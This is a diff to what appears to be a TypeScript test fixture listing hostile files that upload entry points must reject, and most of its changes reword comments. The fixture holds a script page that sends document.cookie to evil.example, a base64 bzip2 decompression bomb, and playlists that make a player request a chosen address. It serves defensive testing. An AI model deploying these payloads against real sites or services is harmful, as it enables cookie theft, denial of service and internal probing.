@@ -1,6 +1,7 @@
 /**
- * Hostile files by category. Every entry point for files has a table test over its categories, which must reject each file unless the table
- * states otherwise. A file that is added here is tested at all of these entry points.
+ * Hostile files by category. Every entry point for files has a table test over its categories. It must reject each file unless the table
+ * states
+ * otherwise. A file that is added here is therefore tested at all of these entry points.
  */
 import sharp from "sharp";
 
@@ -24,21 +25,21 @@ import { matroskaOfHugeSizes, matroskaOfNests, wav } from "./sounds.ts";
 
 type FileBytes = Uint8Array | Promise<Uint8Array>;
 
-/** Address without a server. */
+/** URL at which no server listens. */
 const NOBODY = "http://127.0.0.1:9/x";
 export const PAGE = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>";
 const PICTURE = pngOf(64, 64);
 const JPEG = await sharp(PICTURE).jpeg().toBuffer();
 const WEBP = await sharp(PICTURE).webp({ lossless: true }).toBuffer();
 const ZIP = zipOf({ "a.txt": "x" });
-/** More bytes than any run may unpack. */
+/** Number of bytes that is larger than any run may unpack. */
 const UNPACKED = 300_000_000;
 
 /** 300 million zeros, compressed with bzip2 1.0.8. */
 const BZIP2_BOMB =
   "QlpoOTFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWXcjn6wAvHRAIMAAEAAACCAAMMwJqmmqQqC2pSFQXi7kinChIQEEDIg=";
 
-/** Returns playlists that refer a player to this address. */
+/** Returns playlists that make a player request this address. */
 export function playlistsOf(target: string) {
   const here = "IN IP4 127.0.0.1";
   return {
@@ -53,7 +54,7 @@ export function playlistsOf(target: string) {
 const PLAYLISTS = playlistsOf(NOBODY);
 
 export const HOSTILE_FILES = {
-  /** Files with another format than stated. */
+  /** Files whose format differs from the stated one. */
   disguise: {
     nothing: () => Buffer.alloc(0),
     "a page": () => Buffer.from(PAGE),
@@ -159,7 +160,10 @@ export type HostileName<C extends Category> = C extends Category ? keyof (typeof
 
 const generated = new Map<() => FileBytes, FileBytes>();
 
-/** Returns names and files of the categories in order, for tables. Each file is created once: some compress hundreds of megabytes. */
+/**
+ * Returns names and files of the categories in order, for table tests. Each file is created once, because some compress hundreds of
+ * megabytes.
+ */
 export function hostileFiles<C extends Category>(
   ...categories: readonly C[]
 ): [name: HostileName<C>, make: () => FileBytes][] {
